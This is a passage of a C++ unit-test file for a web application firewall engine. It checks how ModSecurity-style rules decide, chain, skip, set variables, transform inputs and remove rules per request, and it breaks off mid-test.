// What rules do to a request: actions, chains, skips, variables, macros, phases, exclusions.

#include "proxy/waf/engine/transaction.h"

#include <malloc.h>

#include <algorithm>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "proxy/waf/engine/rule_set.h"
#include "test/waf/engine_fixture.h"

namespace edge::waf {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;

// Runs one request, and a response if there is one, through rules.
class Inspected {
 public:
  explicit Inspected(std::string_view rules, TestRequest request = Get("/"),
                     EngineMode mode = EngineMode::kOn)
      : request_(std::move(request)) {
    transaction_.Begin(Compile(rules), mode);
    transaction_.InspectRequest(request_.View(), scratch_);
  }
  Inspected& Response(const ResponseView& response) {
    transaction_.InspectResponse(response, scratch_);
    return *this;
  }
  Inspected& Finish() {
    transaction_.InspectEnd(scratch_);
    return *this;
  }

  std::vector<int64_t> ids() const {
    std::vector<int64_t> ids;
    for (const RuleMatch& match : transaction_.matches()) ids.push_back(match.rule_id);
    return ids;
  }
  const RuleMatch& match(int64_t id) const {
    for (const RuleMatch& match : transaction_.matches()) {
      if (match.rule_id == id) return match;
    }
    ADD_FAILURE() << "rule " << id << " did not match";
    static const RuleMatch none;
    return none;
  }
  std::string_view message(int64_t id) const { return match(id).message; }
  bool denied() const { return transaction_.decision().kind == Decision::Kind::kDeny; }
  const Decision& decision() const { return transaction_.decision(); }
  bool would_be_denied() const {
    return transaction_.would_be_decision().kind == Decision::Kind::kDeny;
  }
  Transaction& operator*() { return transaction_; }
  Transaction* operator->() { return &transaction_; }

 private:
  TestRequest request_;
  Scratch scratch_;
  Transaction transaction_;
};

// --- Decisions

TEST(Decisions, DenyEndsThePhase) {
  const Inspected run(
      "SecRule ARGS:a \"@streq x\" \"id:1,phase:1,deny,status:418\"\n"
      "SecAction \"id:2,phase:1,pass\"",
      Get("/?a=x"));
  EXPECT_EQ(run.decision().kind, Decision::Kind::kDeny);
  EXPECT_EQ(run.decision().status, 418);
  EXPECT_EQ(run.decision().rule_id, 1);
  EXPECT_THAT(run.ids(), ElementsAre(1));
  EXPECT_TRUE(run.match(1).disruptive);
}

TEST(Decisions, DenyWithoutStatusIs403) {
  EXPECT_EQ(Inspected("SecAction \"id:1,phase:1,deny\"").decision().status, 403);
}

TEST(Decisions, DropIsOfItsOwnKind) {
  EXPECT_EQ(Inspected("SecAction \"id:1,phase:1,drop\"").decision().kind, Decision::Kind::kDrop);
}

TEST(Decisions, RedirectExpandsItsAddress) {
  const Inspected run("SecAction \"id:1,phase:1,redirect:'https://a.example/%{REQUEST_FILENAME}'\"",
                      Get("/x?y"));
  EXPECT_EQ(run.decision().kind, Decision::Kind::kRedirect);
  EXPECT_EQ(run.decision().status, 302);
  EXPECT_EQ(run.decision().redirect, "https://a.example//x");
}

TEST(Decisions, RedirectKeepsAStatusThatIsOne) {
  EXPECT_EQ(Inspected("SecAction \"id:1,phase:1,status:301,redirect:/a\"").decision().status, 301);
  EXPECT_EQ(Inspected("SecAction \"id:1,phase:1,status:403,redirect:/a\"").decision().status, 302);
}

TEST(Decisions, BlockDoesWhatSecDefaultActionSays) {
  const Inspected run(
      "SecDefaultAction \"phase:1,log,deny,status:451\"\n"
      "SecDefaultAction \"phase:2,log,pass\"\n"
      "SecAction \"id:1,phase:1,block\"");
  EXPECT_EQ(run.decision().status, 451);
  EXPECT_FALSE(
      Inspected("SecDefaultAction \"phase:2,log,pass\"\nSecAction \"id:1,phase:2,block\"")  //
          .denied());
}

TEST(Decisions, BlockWithoutSecDefaultActionPasses) {
  EXPECT_FALSE(Inspected("SecAction \"id:1,phase:1,block\"").denied());
}

TEST(Decisions, ARuleWithoutADisruptiveActionPasses) {
  EXPECT_FALSE(
      Inspected("SecDefaultAction \"phase:1,log,deny\"\nSecAction \"id:1,phase:1\"").denied());
}

TEST(Decisions, AllowEndsAllPhasesButTheLast) {
  Inspected run(
      "SecAction \"id:1,phase:1,allow\"\n"
      "SecAction \"id:2,phase:1,deny\"\n"
      "SecAction \"id:3,phase:2,deny\"\n"
      "SecAction \"id:4,phase:3,deny\"\n"
      "SecAction \"id:5,phase:5,pass\"");
  run.Response({.status = 200, .protocol = "HTTP/1.1"}).Finish();
  EXPECT_FALSE(run.denied());
  EXPECT_THAT(run.ids(), ElementsAre(1, 5));
}

TEST(Decisions, AllowPhaseEndsThePhase) {
  const Inspected run(
      "SecAction \"id:1,phase:1,allow:phase\"\n"
      "SecAction \"id:2,phase:1,deny\"\n"
      "SecAction \"id:3,phase:2,deny\"");
  EXPECT_THAT(run.ids(), ElementsAre(1, 3));
}

TEST(Decisions, AllowRequestEndsThePhasesOfTheRequest) {
  Inspected run(
      "SecAction \"id:1,phase:1,allow:request\"\n"
      "SecAction \"id:2,phase:2,deny\"\n"
      "SecAction \"id:3,phase:3,deny\"");
  EXPECT_FALSE(run.denied());
  run.Response({.status = 200, .protocol = "HTTP/1.1"});
  EXPECT_TRUE(run.denied());
  EXPECT_THAT(run.ids(), ElementsAre(1, 3));
}

TEST(Decisions, DetectionOnlyDecidesNothingAndSaysWhatItWould) {
  Inspected run(
      "SecAction \"id:1,phase:1,deny,status:401\"\n"
      "SecAction \"id:2,phase:2,deny,status:402\"",
      Get("/"), EngineMode::kDetectionOnly);
  EXPECT_FALSE(run.denied());
  EXPECT_THAT(run.ids(), ElementsAre(1, 2));
  EXPECT_EQ(run->would_be_decision().kind, Decision::Kind::kDeny);
  EXPECT_EQ(run->would_be_decision().status, 401);
}

TEST(Decisions, DetectionOnlyKnowsThatAllowWouldHaveLetItPass) {
  Inspected run(
      "SecAction \"id:1,phase:1,allow\"\n"
      "SecAction \"id:2,phase:2,deny\"",
      Get("/"), EngineMode::kDetectionOnly);
  EXPECT_EQ(run->would_be_decision().kind, Decision::Kind::kPass);
}

TEST(Decisions, OffRunsNothing) {
  EXPECT_THAT(Inspected("SecAction \"id:1,phase:1,deny\"", Get("/"), EngineMode::kOff).ids(),
              IsEmpty());
}

TEST(Decisions, ThePhaseOfLoggingDecidesNothing) {
  Inspected run("SecAction \"id:1,phase:5,deny\"");
  run.Finish();
  EXPECT_FALSE(run.denied());
  EXPECT_THAT(run.ids(), ElementsAre(1));
}

TEST(Decisions, ThePhaseOfLoggingRunsAfterADenial) {
  Inspected run(
      "SecAction \"id:1,phase:1,deny\"\nSecAction \"id:2,phase:5\"\nSecAction \"id:3,phase:5\"");
  run.Finish();
  EXPECT_TRUE(run.denied());
  EXPECT_THAT(run.ids(), ElementsAre(1, 2, 3));
}

// --- Phases

TEST(Phases, ArgumentsOfTheBodyAreThereInPhase2) {
  constexpr std::string_view kRules =
      "SecRule ARGS:b \"@streq y\" \"id:1,phase:1\"\n"
      "SecRule ARGS:a \"@streq x\" \"id:2,phase:1\"\n"
      "SecRule ARGS:b \"@streq y\" \"id:3,phase:2\"\n"
      "SecRule ARGS \"@streq y\" \"id:4,phase:2\"\n"
      "SecRule ARGS_POST_NAMES \"@streq b\" \"id:5,phase:2\"";
  TestRequest request = Form("b=y");
  request.target = "/?a=x";
  EXPECT_THAT(Inspected(kRules, request).ids(), ElementsAre(2, 3, 4, 5));
}

TEST(Phases, NamesOfPhasesAreKnown) {
  Inspected run(
      "SecAction \"id:1,phase:request\"\n"
      "SecAction \"id:2,phase:response\"\n"
      "SecAction \"id:3,phase:logging\"\n"
      "SecResponseBodyAccess On");
  run.Response({.status = 200, .protocol = "HTTP/1.1", .body = "x"}).Finish();
  EXPECT_EQ(run.match(1).phase, 2);
  EXPECT_EQ(run.match(2).phase, 4);
  EXPECT_EQ(run.match(3).phase, 5);
}

TEST(Phases, WithoutAPhaseARuleIsOfPhase1AsInLibmodsecurity) {
  EXPECT_EQ(Inspected("SecAction \"id:1\"").match(1).phase, 1);
}

TEST(Phases, ResponsesHaveTheirOwn) {
  const std::vector<FieldView> fields = {{"Content-Type", "text/html; charset=utf-8"},
                                         {"X-Secret", "42"}};
  Inspected run(
      "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
      "SecRule RESPONSE_STATUS \"@streq 500\" \"id:1,phase:3\"\n"
      "SecRule RESPONSE_HEADERS:x-secret \"@streq 42\" \"id:2,phase:3\"\n"
      "SecRule RESPONSE_CONTENT_TYPE \"@streq text/html\" \"id:3,phase:3\"\n"
      "SecRule RESPONSE_BODY \"@contains stack trace\" \"id:4,phase:4,deny\"");
  run.Response({.status = 500, .protocol = "HTTP/1.1", .fields = fields, .body = "a stack trace"});
  EXPECT_THAT(run.ids(), ElementsAre(1, 2, 3, 4));
  EXPECT_TRUE(run.denied());
}

TEST(Phases, ResponseBodiesOfOtherTypesAreNotInspected) {
  const std::vector<FieldView> fields = {{"Content-Type", "image/png"}};
  Inspected run(
      "SecResponseBodyAccess On\nSecResponseBodyMimeType text/html\n"
      "SecAction \"id:1,phase:4,deny\"");
  run.Response({.status = 200, .protocol = "HTTP/1.1", .fields = fields, .body = "x"});
  EXPECT_THAT(run.ids(), IsEmpty());
}

// --- Flow

TEST(Flow, AChainMatchesIfAllItsRulesDo) {
  constexpr std::string_view kRules =
      "SecRule ARGS:a \"@streq x\" \"id:1,phase:1,deny,chain\"\n"
      "SecRule ARGS:b \"@streq y\" \"chain\"\n"
      "SecRule ARGS:c \"@streq z\"\n"
      "SecAction \"id:2,phase:1\"";
  EXPECT_TRUE(Inspected(kRules, Get("/?a=x&b=y&c=z")).denied());
  EXPECT_THAT(Inspected(kRules, Get("/?a=x&b=y&c=-")).ids(), ElementsAre(2));
  EXPECT_THAT(Inspected(kRules, Get("/?a=-&b=y&c=z")).ids(), ElementsAre(2));
}

TEST(Flow, VariablesAreSetByEachRuleOfAChainThatIsReached) {
  Inspected run(
      "SecRule ARGS:a \"@streq x\" \"id:1,phase:1,chain,setvar:tx.first=1\"\n"
      "SecRule ARGS:b \"@streq y\" \"setvar:tx.second=1\"",
      Get("/?a=x&b=-"));
  EXPECT_EQ(run->TxNumber("first"), 1);
  EXPECT_EQ(run->TxNumber("second"), 0);
  EXPECT_THAT(run.ids(), IsEmpty());
}

TEST(Flow, ChainedRulesSeeCapturesAndWhatMatched) {
  const Inspected run(
      "SecRule ARGS:a \"@rx ^(\\w+)-(\\w+)$\" \"id:1,phase:1,capture,chain,"
      "msg:'%{TX.0} %{MATCHED_VAR_NAME}'\"\n"
      "SecRule TX:2 \"@streq two\" \"chain\"\n"
      "SecRule MATCHED_VAR \"@streq two\"",
      Get("/?a=one-two"));
  EXPECT_EQ(run.message(1), "one-two MATCHED_VAR");
}

TEST(Flow, SkipAfterGoesToTheMarker) {
  const Inspected run(
      "SecAction \"id:1,phase:1,skipAfter:END\"\n"
      "SecAction \"id:2,phase:1\"\n"
      "SecAction \"id:3,phase:2\"\n"
      "SecMarker END\n"
      "SecAction \"id:4,phase:1\"");
  EXPECT_THAT(run.ids(), ElementsAre(1, 4, 3));
}

TEST(Flow, SkipAfterOfAChainNeedsTheWholeChain) {
  constexpr std::string_view kRules =
      "SecRule ARGS:a \"@streq x\" \"id:1,phase:1,chain,skipAfter:END\"\n"
      "SecRule ARGS:b \"@streq y\"\n"
      "SecAction \"id:2,phase:1\"\n"
      "SecMarker END";
  EXPECT_THAT(Inspected(kRules, Get("/?a=x&b=-")).ids(), ElementsAre(2));
  EXPECT_THAT(Inspected(kRules, Get("/?a=x&b=y")).ids(), ElementsAre(1));
}

TEST(Flow, SkipAfterWithoutAMarkerSkipsThePhase) {
  const Inspected run(
      "SecMarker END\n"
      "SecAction \"id:1,phase:1,skipAfter:END\"\n"
      "SecAction \"id:2,phase:1\"\n"
      "SecAction \"id:3,phase:2\"");
  EXPECT_THAT(run.ids(), ElementsAre(1, 3));
}

TEST(Flow, SkipCountsAChainAsOneRule) {
  const Inspected run(
      "SecAction \"id:1,phase:1,skip:2\"\n"
      "SecRule ARGS:a \"@streq x\" \"id:2,phase:1,chain\"\n"
      "SecRule ARGS:a \"@streq x\"\n"
      "SecAction \"id:3,phase:1\"\n"
      "SecAction \"id:4,phase:1\"",
      Get("/?a=x"));
  EXPECT_THAT(run.ids(), ElementsAre(1, 4));
}

// --- Variables that rules set

TEST(SetVar, SetsAddsSubtractsAndUnsets) {
  Inspected run(
      "SecAction \"id:1,phase:1,setvar:tx.a=5,setvar:tx.b=5,setvar:tx.c\"\n"
      "SecAction \"id:2,phase:1,setvar:tx.a=+3,setvar:tx.b=-7,setvar:tx.new=+2\"\n"
      "SecAction \"id:3,phase:1,setvar:!tx.c\"\n"
      "SecRule &TX:c \"@eq 0\" \"id:4,phase:1\"");
  EXPECT_EQ(run->TxNumber("a"), 8);
  EXPECT_EQ(run->TxNumber("B"), -2);
  EXPECT_EQ(run->TxNumber("new"), 2);
  EXPECT_THAT(run.ids(), ElementsAre(1, 2, 3, 4));
}

TEST(SetVar, RunsForEachValueThatMatches) {
  Inspected run("SecRule ARGS \"@streq x\" \"id:1,phase:1,setvar:tx.n=+1\"",
                Get("/?a=x&b=y&c=x&d=x"));
  EXPECT_EQ(run->TxNumber("n"), 3);
  EXPECT_THAT(run.ids(), ElementsAre(1));
}

TEST(SetVar, NamesAndValuesMayHaveMacros) {
  const Inspected run(
      "SecRule ARGS \"@rx .\" "
      "\"id:1,phase:1,setvar:'tx.seen_%{MATCHED_VAR_NAME}=<%{MATCHED_VAR}>'\"\n"
      "SecRule TX:/^seen_/ \"@streq <2>\" \"id:2,phase:1,msg:'%{MATCHED_VAR_NAME}'\"\n"
      "SecRule TX:seen_ARGS:a \"@streq <1>\" \"id:3,phase:1\"",
      Get("/?a=1&b=2"));
  EXPECT_EQ(run.message(2), "TX:seen_ARGS:b");
  EXPECT_THAT(run.ids(), ElementsAre(1, 2, 3));
}

TEST(SetVar, AddsAVariable) {
  Inspected run(
      "SecAction \"id:1,phase:1,setvar:tx.a=4,setvar:tx.b=+%{tx.a},setvar:'tx.b=+%{tx.a}'\"");
  EXPECT_EQ(run->TxNumber("b"), 8);
}

TEST(SetVar, OtherCollectionsLastForTheRequest) {
  constexpr std::string_view kRules =
      "SecAction "
      "\"id:1,phase:1,initcol:ip=%{REMOTE_ADDR},setvar:ip.count=+1,expirevar:ip.count=60\"\n"
      "SecRule IP:count \"@eq 1\" \"id:2,phase:1\"";
  EXPECT_THAT(Inspected(kRules).ids(), ElementsAre(1, 2));
  EXPECT_THAT(Compile(kRules)->notes(), testing::SizeIs(2));
}

TEST(SetVar, UserAndSessionAreNamed) {
  const Inspected run(
      "SecAction \"id:1,phase:1,setsid:%{ARGS.s},setuid:me,setenv:EDGE_TEST=7\"\n"
      "SecRule SESSIONID \"@streq abc\" \"id:2,phase:1\"\n"
      "SecRule USERID \"@streq me\" \"id:3,phase:1\"\n"
      "SecRule ENV:EDGE_TEST \"@eq 7\" \"id:4,phase:1\"",
      Get("/?s=abc"));
  EXPECT_THAT(run.ids(), ElementsAre(1, 2, 3, 4));
}

// --- Targets

TEST(Targets, SelectorsAreWithoutRegardToCase) {
  constexpr std::string_view kRules =
      "SecRule ARGS:NAME \"@streq x\" \"id:1,phase:1\"\n"
      "SecRule REQUEST_HEADERS:user-agent \"@contains Mozilla\" \"id:2,phase:1\"\n"
      "SecRule ARGS:/^n.m/ \"@streq x\" \"id:3,phase:1\"\n"
      "SecRule ARGS:/AME/ \"@streq x\" \"id:4,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/?Name=x")).ids(), ElementsAre(1, 2, 3, 4));
}

TEST(Targets, ExpressionsThatDifferInCaseAreTwo) {
  constexpr std::string_view kRules =
      "SecRule ARGS:/^\\s+$/ \"@streq x\" \"id:1,phase:1\"\n"
      "SecRule ARGS:/^\\S+$/ \"@streq x\" \"id:2,phase:1\"\n"
      "SecRule ARGS|!ARGS:/^\\d$/ \"@streq x\" \"id:3,phase:1\"\n"
      "SecRule ARGS|!ARGS:/^\\D$/ \"@streq x\" \"id:4,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/?a=x")).ids(), ElementsAre(2, 3));
  EXPECT_THAT(Inspected(kRules, Get("/?%20=x")).ids(), ElementsAre(1, 3));
  EXPECT_THAT(Inspected(kRules, Get("/?1=x")).ids(), ElementsAre(2, 4));
}

TEST(Targets, ExpressionsHaveNoMacros) {
  constexpr std::string_view kRules =
      "SecRule ARGS|!ARGS:/^a%{2}/ \"@streq x\" \"id:1,phase:1\"\n"
      "SecRule ARGS:/^a%{2}/ \"@streq y\" \"id:2,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/?b=x&b=y")).ids(), ElementsAre(1));
  EXPECT_THAT(Inspected(kRules, Get("/?a%25%25=x&a%25%25=y")).ids(), ElementsAre(2));
}

TEST(Targets, ElementsOfXmlThatDifferInCaseAreTwo) {
  constexpr std::string_view kRules =
      "SecAction \"id:9,phase:1,nolog,ctl:requestBodyProcessor=XML\"\n"
      "SecRule XML:/r/a \"@streq x\" \"id:1,phase:2\"\n"
      "SecRule XML:/r/A \"@streq x\" \"id:2,phase:2\"\n"
      "SecRule XML:/r/A \"@streq y\" \"id:3,phase:2\"";
  const Inspected run(kRules, TestRequest().SetBody("text/xml", "<r><a>x</a><A>y</A></r>"));
  EXPECT_THAT(run.ids(), ElementsAre(9, 1, 3));
}

TEST(Targets, ExclusionsAreOfTheirCollection) {
  constexpr std::string_view kRules =
      "SecRule ARGS|ARGS_NAMES|!ARGS:a \"@rx ^(?:x|a)$\" "
      "\"id:1,phase:1,msg:'%{MATCHED_VAR_NAME}'\"\n"
      "SecRule ARGS|!ARGS:/^a/ \"@streq x\" \"id:2,phase:1\"\n"
      "SecRule ARGS|!ARGS \"@streq x\" \"id:3,phase:1\"";
  const Inspected run(kRules, Get("/?a=x"));
  EXPECT_THAT(run.ids(), ElementsAre(1));
  EXPECT_EQ(run.message(1), "ARGS_NAMES:a");
}

TEST(Targets, CountsAreOfWhatIsSelected) {
  constexpr std::string_view kRules =
      "SecRule &ARGS \"@eq 3\" \"id:1,phase:1\"\n"
      "SecRule &ARGS:a \"@eq 2\" \"id:2,phase:1\"\n"
      "SecRule &REQUEST_HEADERS:None \"@eq 0\" \"id:3,phase:1\"\n"
      "SecRule &ARGS|!ARGS:b \"@eq 2\" \"id:4,phase:1\"\n"
      "SecRule &TX \"@gt 0\" \"id:5,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/?a=1&a=2&b=3")).ids(), ElementsAre(1, 2, 3, 4));
}

TEST(Targets, AnEmptyVariableIsThereAndAMissingMemberIsNot) {
  constexpr std::string_view kRules =
      "SecRule QUERY_STRING \"@streq\" \"id:1,phase:1\"\n"
      "SecRule REQUEST_HEADERS:None \"!@streq x\" \"id:2,phase:1\"\n"
      "SecRule ARGS:a \"!@streq x\" \"id:3,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/")).ids(), testing::Not(testing::Contains(2)));
  EXPECT_THAT(Inspected(kRules, Get("/?a=y")).ids(), testing::Contains(3));
}

TEST(Targets, OfTheRequest) {
  constexpr std::string_view kRules =
      "SecRule REQUEST_LINE \"@streq POST /dir/f.php?a=%41%zz HTTP/1.1\" \"id:1,phase:1\"\n"
      "SecRule REQUEST_BASENAME \"@streq f.php\" \"id:2,phase:1\"\n"
      "SecRule REQUEST_FILENAME \"@streq /dir/f.php\" \"id:3,phase:1\"\n"
      "SecRule QUERY_STRING \"@streq a=%41%zz\" \"id:4,phase:1\"\n"
      "SecRule ARGS:a \"@streq A%zz\" \"id:5,phase:1\"\n"
      "SecRule URLENCODED_ERROR \"@eq 1\" \"id:6,phase:1\"\n"
      "SecRule REMOTE_ADDR \"@ipMatch 192.0.2.0/24\" \"id:7,phase:1\"\n"
      "SecRule SERVER_NAME \"@streq shop.example.com\" \"id:8,phase:1\"\n"
      "SecRule REQUEST_COOKIES:b \"@streq 2\" \"id:9,phase:1\"\n"
      "SecRule REQUEST_COOKIES_NAMES \"@streq a\" \"id:10,phase:1\"\n"
      "SecRule REMOTE_USER \"@streq aladdin\" \"id:11,phase:1\"\n"
      "SecRule AUTH_TYPE \"@streq Basic\" \"id:12,phase:1\"\n"
      "SecRule REQBODY_PROCESSOR \"@streq URLENCODED\" \"id:13,phase:1\"\n"
      "SecRule REQUEST_BODY \"@streq p=1\" \"id:14,phase:2\"\n"
      "SecRule REQUEST_BODY_LENGTH \"@eq 3\" \"id:15,phase:2\"\n"
      "SecRule ARGS_COMBINED_SIZE \"@eq 7\" \"id:16,phase:2\"\n"
      "SecRule UNIQUE_ID \"@contains 0192f0c1\" \"id:17,phase:2\"\n"
      "SecRule TIME_EPOCH \"@eq 1700000000\" \"id:18,phase:2\"\n"
      "SecRule FULL_REQUEST \"@endsWith p=1\" \"id:19,phase:2\"";
  TestRequest request = Form("p=1");
  request.target = "/dir/f.php?a=%41%zz";
  request.fields.emplace_back("Cookie", "a=1; b=2");
  request.fields.emplace_back("Authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l");
  EXPECT_THAT(Inspected(kRules, request).ids(),
              ElementsAre(1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19));
}

TEST(Targets, MatchedVarsAreThoseOfTheChain) {
  const Inspected run(
      "SecRule ARGS \"@rx ^[xy]$\" \"id:1,phase:1,chain\"\n"
      "SecRule MATCHED_VARS_NAMES \"@streq ARGS:b\" \"chain\"\n"
      "SecRule &MATCHED_VARS \"@ge 2\"",
      Get("/?a=x&b=y&c=z"));
  EXPECT_THAT(run.ids(), ElementsAre(1));
}

TEST(Targets, RuleTellsAboutItself) {
  const Inspected run(
      "SecAction \"id:7,phase:1,severity:ERROR,rev:3,msg:'%{RULE.id} %{rule.severity} "
      "%{RULE.rev}'\"\n"
      "SecRule HIGHEST_SEVERITY \"@eq 3\" \"id:8,phase:1\"");
  EXPECT_EQ(run.message(7), "7 3 3");
  EXPECT_EQ(run.match(7).severity, 3);
  EXPECT_THAT(run.ids(), ElementsAre(7, 8));
}

// --- Transformations

TEST(Transformations, AreDoneInTheirOrder) {
  const Inspected run(
      "SecRule ARGS:a \"@streq <b>\" \"id:1,phase:1,t:urlDecodeUni,t:htmlEntityDecode,"
      "t:lowercase\"",
      Get("/?a=%26LT%3B%2542%3e"));
  EXPECT_THAT(run.ids(), ElementsAre(1));
}

TEST(Transformations, NoneTakesAwayWhatIsBefore) {
  constexpr std::string_view kRules =
      "SecDefaultAction \"phase:1,log,pass,t:lowercase\"\n"
      "SecRule ARGS:a \"@streq x\" \"id:1,phase:1\"\n"
      "SecRule ARGS:a \"@streq X\" \"id:2,phase:1,t:none\"\n"
      "SecRule ARGS:a \"@streq 58\" \"id:3,phase:1,t:lowercase,t:none,t:hexEncode\"";
  EXPECT_THAT(Inspected(kRules, Get("/?a=X")).ids(), ElementsAre(1, 2, 3));
}

TEST(Transformations, MultiMatchTriesEachStep) {
  Inspected run(
      "SecRule ARGS:a \"@rx ^(?:%41|A|a)$\" "
      "\"id:1,phase:1,t:urlDecode,t:lowercase,t:lowercase,multiMatch,setvar:tx.n=+1\"",
      Get("/?a=%2541"));
  EXPECT_EQ(run->TxNumber("n"), 3);
}

TEST(Transformations, ApplyToVariablesThatChange) {
  Inspected run(
      "SecAction \"id:1,phase:1,setvar:'tx.a=%41 B'\"\n"
      "SecRule TX:a \"@rx ^(a) b$\" \"id:2,phase:1,t:urlDecode,t:lowercase,capture,"
      "msg:'%{MATCHED_VAR} %{TX.1}'\"\n"
      "SecRule TX:a \"@rx .\" \"id:3,phase:1,t:urlDecode,t:lowercase,multiMatch,setvar:tx.n=+1\"");
  EXPECT_EQ(run.message(2), "a b a");
  EXPECT_EQ(run->TxNumber("n"), 3);
}

// --- ctl and exclusions

TEST(Control, RuleEngineIsNeverMoreThanWasAskedFor) {
  constexpr std::string_view kRules =
      "SecRule ARGS:m \"@streq off\" \"id:1,phase:1,ctl:ruleEngine=Off\"\n"
      "SecRule ARGS:m \"@streq detect\" \"id:2,phase:1,ctl:ruleEngine=DetectionOnly\"\n"
      "SecRule ARGS:m \"@streq on\" \"id:3,phase:1,ctl:ruleEngine=On\"\n"
      "SecAction \"id:4,phase:2,deny\"";
  EXPECT_FALSE(Inspected(kRules, Get("/?m=off")).denied());
  EXPECT_FALSE(Inspected(kRules, Get("/?m=detect")).denied());
  EXPECT_THAT(Inspected(kRules, Get("/?m=detect")).ids(), ElementsAre(2, 4));
  EXPECT_TRUE(Inspected(kRules, Get("/?m=on")).denied());
  EXPECT_FALSE(Inspected(kRules, Get("/?m=on"), EngineMode::kDetectionOnly).denied());
}

TEST(Control, WhatWouldBeDecidedIsWithoutRulesThatOnlyDetect) {
  constexpr std::string_view kRules =
      "SecAction \"id:1,phase:1,ctl:ruleEngine=DetectionOnly\"\n"
      "SecAction \"id:2,phase:1,allow\"\n"
      "SecAction \"id:3,phase:1,deny\"\n";
  for (const EngineMode mode : {EngineMode::kOn, EngineMode::kDetectionOnly}) {
    EXPECT_FALSE(Inspected(kRules, Get("/"), mode).would_be_denied());
    // What they let pass is not let pass either.
    EXPECT_TRUE(Inspected(absl::StrCat(kRules,
                                       "SecAction \"id:4,phase:1,ctl:ruleEngine=On\"\n"
                                       "SecAction \"id:5,phase:1,deny\""),
                          Get("/"), mode)
                    .would_be_denied());
  }
}

TEST(Control, RemovesRulesByIdRangeTagAndMessage) {
  constexpr std::string_view kRules =
      "SecRule ARGS:r \"@streq id\" \"id:1,phase:1,nolog,ctl:ruleRemoveById=11\"\n"
      "SecRule ARGS:r \"@streq range\" \"id:2,phase:1,nolog,ctl:ruleRemoveById=11-12\"\n"
      "SecRule ARGS:r \"@streq tag\" \"id:3,phase:1,nolog,ctl:ruleRemoveByTag=t2\"\n"
      "SecRule ARGS:r \"@streq msg\" \"id:4,phase:1,nolog,ctl:ruleRemoveByMsg=m3\"\n"
      "SecAction \"id:11,phase:1,tag:t1,tag:t2\"\n"
      "SecAction \"id:12,phase:1,tag:t22\"\n"
      "SecAction \"id:13,phase:1,msg:'m3'\"";
  EXPECT_THAT(Inspected(kRules).ids(), ElementsAre(11, 12, 13));
  EXPECT_THAT(Inspected(kRules, Get("/?r=id")).ids(), ElementsAre(1, 12, 13));
  EXPECT_THAT(Inspected(kRules, Get("/?r=range")).ids(), ElementsAre(2, 13));
  EXPECT_THAT(Inspected(kRules, Get("/?r=tag")).ids(), ElementsAre(3, 12, 13));
  EXPECT_THAT(Inspected(kRules, Get("/?r=msg")).ids(), ElementsAre(4, 11, 12));
}

TEST(Control, RemovesTargets) {
  constexpr std::string_view kRules =
      "SecRule REQUEST_FILENAME \"@streq /id\" "
      "\"id:1,phase:1,ctl:ruleRemoveTargetById=11;ARGS:a\"\n"
      "SecRule REQUEST_FILENAME \"@streq /tag\" \"id:2,phase:1,ctl:ruleRemoveTargetByTag=t;ARGS\"\n"
      "SecRule ARGS|ARGS_NAMES \"@rx ^x\" \"id:11,phase:1,tag:t,msg:'%{MATCHED_VAR_NAME}'\"\n"
      "SecRule ARGS \"@rx ^x\" \"id:12,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/?a=x")).ids(), ElementsAre(11, 12));
  EXPECT_THAT(Inspected(kRules, Get("/id?a=x")).ids(), ElementsAre(1, 12));
  EXPECT_THAT(Inspected(kRules, Get("/id?b=x")).ids(), ElementsAre(1, 11, 12));
  EXPECT_THAT(Inspected(kRules, Get("/tag?b=x")).ids(), ElementsAre(2, 12));
  EXPECT_EQ(Inspected(kRules, Get("/tag?xb=x")).message(11), "ARGS_NAMES:xb");
}

TEST(Control, RemovalsEndWithTheRequest) {
  const auto rules = Compile(
      "SecRule ARGS:r \"@streq 1\" \"id:1,phase:1,ctl:ruleRemoveById=11,"
      "ctl:ruleRemoveTargetById=12;ARGS:a\"\n"
      "SecAction \"id:11,phase:1\"\n"
      "SecRule ARGS:a \"@streq x\" \"id:12,phase:1\"");
  Scratch scratch;
  Transaction transaction;
  for (const auto& [target, matches] :
       std::vector<std::pair<std::string, size_t>>{{"/?r=1&a=x", 1}, {"/?a=x", 2}}) {
    TestRequest request = Get(target);
    transaction.Begin(rules, EngineMode::kOn);
    transaction.InspectRequest(request.View(), scratch);
    EXPECT_EQ(transaction.matches().size(), matches) << target;
    transaction.End();
  }
}

TEST(Control, ChoosesTheBodyProcessor) {
  constexpr std::string_view kRules =
      "SecRule REQUEST_HEADERS:Content-Type \"@contains json\" "
      "\"id:1,phase:1,ctl:requestBodyProcessor=JSON\"\n"
      "SecRule REQBODY_PROCESSOR \"@streq JSON\" \"id:2,phase:2\"\n"
      "SecRule ARGS:json.a \"@streq b\" \"id:3,phase:2\"\n"
      "SecRule REQBODY_ERROR \"@eq 1\" \"id:4,phase:2\"";
  EXPECT_THAT(Inspected(kRules, TestRequest().SetBody("application/json", "{\"a\":\"b\"}")).ids(),
              ElementsAre(1, 2, 3));
  EXPECT_THAT(Inspected(kRules, TestRequest().SetBody("application/json", "{\"a\":")).ids(),
              testing::Contains(4));
  TestRequest cut = TestRequest().SetBody("application/json", "{\"a\":\"b\",");
  cut.body_cut = true;
  EXPECT_THAT(Inspected(kRules, cut).ids(), ElementsAre(1, 2, 3));
}

TEST(Control, WithoutARuleTheTypeChoosesTheBodyProcessor) {
  constexpr std::string_view kRules =
      "SecRule ARGS:json.a \"@streq x\" \"id:1,phase:2\"\n"
      "SecRule XML:/* \"@streq x\" \"id:2,phase:2\"\n"
      "SecRule REQBODY_ERROR \"@eq 1\" \"id:3,phase:2\"\n";
  const auto ids = [&](std::string_view type, std::string_view body, std::string_view more = "") {
    return Inspected(absl::StrCat(kRules, more), TestRequest().SetBody(type, body)).ids();
  };
  for (const std::string_view type :
       {"application/json", "Application/JSON; charset=utf-8", "application/problem+json"}) {
